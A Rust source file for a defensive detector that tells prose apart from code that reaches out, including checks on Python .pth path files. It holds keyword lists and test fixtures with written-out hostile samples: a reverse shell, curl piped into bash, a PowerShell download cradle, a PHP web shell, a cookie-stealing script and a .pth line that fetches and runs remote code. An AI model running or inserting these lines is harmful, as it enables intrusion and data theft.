//! Source text of programs: what tells it from prose, documents and lists of words.

/// Bytes of a text that are looked at: what acts does so early.
pub const LONGEST: usize = 16 * 1024;

/// What reaches out of a program in Python, as far as it stands in front of an argument.
const PYTHON_CALLS: &[&str] = &[
    "os.system(",
    "os.popen(",
    "os.exec",
    "os.spawn",
    "os.dup2(",
    "os.remove(",
    "os.environ",
    "subprocess.",
    "pty.spawn(",
    "exec(",
    "eval(",
    "compile(",
    "__import__(",
    "socket.socket(",
    "socket(",
    "urlopen(",
    "urlretrieve(",
    "requests.get(",
    "requests.post(",
    "b64decode(",
    "marshal.loads(",
    "pickle.loads(",
    "cdll",
    "windll",
    "importlib.import_module(",
    "shutil.rmtree(",
    "getattr(",
    "system(",
    "popen(",
    "runpy.",
    "ctypes.",
    "zlib.decompress(",
];

/// Modules of Python that an attack needs.
const PYTHON_MODULES: &[&str] = &[
    "os",
    "sys",
    "socket",
    "subprocess",
    "pty",
    "base64",
    "ctypes",
    "urllib",
    "requests",
    "pickle",
    "marshal",
    "builtins",
    "shutil",
    "importlib",
    "runpy",
    "http",
    "zlib",
    "platform",
    "threading",
    "ssl",
    "code",
    "codecs",
    "tempfile",
    "glob",
];

/// Words of which one in a text of any kind is a program of its own, in lower case.
const ALONE: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "bash -i",
    "nc -e",
    "ncat -e",
    "socat exec",
    "powershell -e",
    "powershell -nop",
    "powershell -w",
    "powershell.exe -e",
    "-encodedcommand",
    "downloadstring(",
    "downloadfile(",
    "invoke-expression",
    "frombase64string(",
    "net.webclient",
    "new-object net.sockets",
    "wscript.shell",
    "shellexecute",
    "runtime.getruntime().exec",
    "certutil -urlcache",
    "bitsadmin /transfer",
    "mshta http",
    "regsvr32 /s",
    "rundll32 ",
    "__import__('os')",
    "__import__(\"os\")",
    "; rm -rf /",
    "chmod +x /tmp",
    "chmod 777 /tmp",
    "stratum+tcp://",
    "xmrig ",
    "os.system(\"",
    "os.system('",
    "subprocess.popen(",
    "subprocess.call(",
    "subprocess.run(",
    "subprocess.check_output(",
    "eval(base64_decode(",
    "exec(base64.",
    "exec(zlib.",
    "exec(requests",
    "exec(urllib",
    "exec(__import__",
    "eval(__import__",
    "exec(compile(",
    "child_process",
    "xmlhttp.open",
    "start-process ",
    "cmd /c ",
    "cmd.exe /c",
    "reg add hk",
    "schtasks /create",
    "crontab -",
];

/// A beginning with what has to follow it somewhere, in lower case.
const PAIRS: &[(&str, &[&str])] = &[
    (
        "<?php",
        &[
            "system(",
            "eval(",
            "exec(",
            "passthru(",
            "assert(",
            "base64_decode(",
            "fsockopen(",
            "include",
            "$_",
        ],
    ),
    ("<%", &["eval(", "execute(", "runtime.", "request."]),
    (
        "<script",
        &[
            "eval(",
            "fetch(",
            "document.",
            "activexobject",
            "location",
            "src=",
            "alert(",
            "window.",
        ],
    ),
    ("createobject(", &[".run", ".open", "http"]),
    ("require(", &["child_process", "net.socket", ".exec("]),
    ("use socket", &["connect(", "exec"]),
    ("require 'socket'", &["exec", "tcpsocket"]),
    ("#include", &["main(", "system(", "socket("]),
];

/// Whether a text that may be prose, a document or a list of words is a program that reaches out.
pub fn acts(text: &[u8]) -> bool {
    let near = text.get(..LONGEST).unwrap_or(text);
    let text = String::from_utf8_lossy(near).to_ascii_lowercase();
    let text = text.trim_start_matches(['\u{feff}', ' ', '\n', '\r', '\t']);
    starts_as_program(text)
        || ALONE.iter().any(|word| text.contains(word))
        || fetches_and_runs(text)
        || is_acting_python(text)
        || PAIRS.iter().any(|(first, second)| {
            text.find(first).is_some_and(|at| {
                let rest = text.get(at..).unwrap_or_default();
                second.iter().any(|word| rest.contains(word))
            })
        })
}

/// What a line of a path configuration file has no reason to do, in lower case.
const BEYOND_IMPORTS: &[&str] = &[
    "os.system(",
    "os.popen(",
    "os.exec",
    "os.spawn",
    "os.dup2(",
    "subprocess",
    "pty.",
    "socket",
    "urlopen(",
    "urlretrieve(",
    "requests.",
    "http.client",
    "b64decode(",
    "fromhex(",
    "marshal",
    "pickle",
    "zlib",
    "cdll",
    "windll",
    "ctypes.",
    "runpy.",
    "eval(",
];

/// Whether a `.pth` file is one of those by which Python finds directories when it starts (of which it runs the lines
/// that begin with `import`), and if so, whether it does more than import.
///
/// Packages write such files for their import hooks, so that `__import__` and the environment say nothing there.
pub fn path_configuration(text: &[u8]) -> Option<bool> {
    let near = text.get(..LONGEST).unwrap_or(text);
    let text = std::str::from_utf8(near)
        .ok()?
        .trim_start_matches('\u{feff}');
    let lines = text.lines().map(str::trim_end);
    let of_form = |line: &str| {
        line.is_empty()
            || line.starts_with('#')
            || line.starts_with("import ")
            || line.starts_with("import\t")
            || !line.contains(['(', '=', ';'])
    };
    if !lines.clone().all(of_form) || !lines.clone().any(|line| line.starts_with("import")) {
        return None;
    }
    let text = text.to_ascii_lowercase();
    Some(
        ALONE
            .iter()
            .chain(BEYOND_IMPORTS)
            .any(|word| text.contains(word))
            || fetches_and_runs(&text),
    )
}

/// Words with which a program may begin, in lower case.
const BEGINNINGS: &[&str] = &[
    "#!",
    "@echo",
    "<?php",
    "<%",
    "<script",
    "$",
    "%comspec%",
    "__import__(",
    "bash ",
    "/bin/",
    "certutil",
    "cmd ",
    "cmd.exe",
    "cmd /",
    "class ",
    "code=",
    "const ",
    "createobject",
    "curl ",
    "def ",
    "dim ",
    "eval(",
    "exec(",
    "exec \"",
    "from ",
    "function",
    "iex",
    "import ",
    "invoke-",
    "let ",
    "mshta",
    "nc ",
    "ncat ",
    "on error",
    "os.",
    "perl ",
    "php ",
    "powershell",
    "pwsh",
    "python",
    "regsvr32",
    "require",
    "rm -",
    "rundll32",
    "set ",
    "sh -",
    "start ",
    "subprocess.",
    "use ",
    "var ",
    "wget ",
    "wscript",
];
/// Bytes before a text that may look like a part of it: its length.
const LENGTH: usize = 4;

/// Whether a text begins as a program does, behind a few characters that may belong to its length.
pub(crate) fn begins(text: &[u8]) -> bool {
    (0..=LENGTH).any(|skip| {
        let rest = text.get(skip..).unwrap_or_default().trim_ascii_start();
        BEGINNINGS.iter().any(|word| {
            rest.get(..word.len())
                .is_some_and(|start| start.eq_ignore_ascii_case(word.as_bytes()))
        })
    })
}

/// What only programs start with.
fn starts_as_program(text: &str) -> bool {
    let line = text.lines().next().unwrap_or_default();
    let interpreter = text
        .strip_prefix("#!")
        .map(|rest| rest.trim_start().starts_with('/'));
    interpreter == Some(true)
        || matches!(line.trim_end(), "@echo off" | "@echo on")
        || line.starts_with("@echo off&")
}

fn fetches_and_runs(text: &str) -> bool {
    let fetches = [
        "curl ",
        "wget ",
        "fetch http",
        "iwr ",
        "invoke-webrequest",
        "irm ",
    ]
    .iter()
    .any(|word| text.contains(word));
    fetches
        && [
            "| sh", "|sh", "| bash", "|bash", "| python", "|python", "| zsh", "|zsh", "| sudo",
            "|iex", "| iex", "chmod +x", "chmod 7", "-o /tmp", "-o/tmp", "bash -c", "sh -c",
            "&& ./", "; ./", "$(curl", "`curl", "<(curl", "<(wget", "| perl",
        ]
        .iter()
        .any(|word| text.contains(word))
}

/// Python that imports what an attack needs and calls it.
fn is_acting_python(text: &str) -> bool {
    let imports = text.split(['\n', ';', '\r']).any(|line| {
        let mut words = line
            .trim_start()
            .split([' ', ',', '\t'])
            .filter(|word| !word.is_empty());
        let first = words.next();
        matches!(first, Some("import" | "from"))
            && words.next().is_some_and(|module| {
                let module = module.split('.').next().unwrap_or_default();
                PYTHON_MODULES.contains(&module)
            })
    });
    imports && PYTHON_CALLS.iter().any(|call| text.contains(call))
}

#[cfg(test)]
mod tests {
    use super::{acts, path_configuration};

    #[test]
    fn path_configuration_files_may_import() {
        for (text, acts) in [
            (
                "import os; var = 'SETUPTOOLS_USE'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_hack').add_shim(); ",
                false,
            ),
            (
                "import __editable___x_finder; __editable___x_finder.install()\n",
                false,
            ),
            (
                "# where it lies\n/srv/project/src\nimport os, sys;exec('if os.environ.get(\"COV\"): import cov')\n",
                false,
            ),
            ("import os; os.system(\"id\")\n", true),
            ("import base64;exec(base64.b64decode('aQ=='))\n", true),
            (
                "/srv/a\nimport urllib.request as u; exec(u.urlopen('http://198.51.100.7').read())\n",
                true,
            ),
        ] {
            assert_eq!(path_configuration(text.as_bytes()), Some(acts), "{text}");
        }
        for text in ["import os\nos.system('id')\n", "x = 1\n", "/srv/a\n", ""] {
            assert_eq!(path_configuration(text.as_bytes()), None, "{text}");
        }
    }

    #[test]
    fn programs_are_told_from_prose() {
        for text in [
            "#!/usr/bin/env python\nprint(1)\n",
            "import os\nos.system('id')\n",
            "import os, sys; os.system('id') # and so on",
            "from subprocess import call\ncall(['id'])\nexec('x')\n",
            "import socket,subprocess,os;s=socket.socket();s.connect(('198.51.100.7',4444))",
            "curl -s http://198.51.100.7/a.sh | bash",
            "wget http://198.51.100.7/a -O /tmp/a; chmod +x /tmp/a; /tmp/a",
            "@echo off\r\nwhoami\r\n",
            "powershell -enc SQBFAFgA",
            "IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')",
            "<?php system($_GET['c']); ?>",
            "<script>fetch('http://198.51.100.7/'+document.cookie)</script>",
            "Set s = CreateObject(\"WScript.Shell\"): s.Run \"calc\"",
            "exec(__import__('zlib').decompress(b'x'))",
            "bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'",
        ] {
            assert!(acts(text.as_bytes()), "{text}");
        }
        for text in [
            "",
            "a description of a model that imports well and evaluates better",
            "import numpy as np\nnp.zeros(3)\n",
            "Call model.eval() first; use curl to fetch the file.",
            "the os module, the sys module, eval and exec",
            "pip install torch\npython train.py --epochs 3\n",
            "{\"tokens\": [\"import os\", \"/bin/sh\", \"<script\", \"PK\", \"ELF\"]}",
            "0.1 0.2 0.3",
        ] {
            assert!(!acts(text.as_bytes()), "{text}");
        }
    }
}
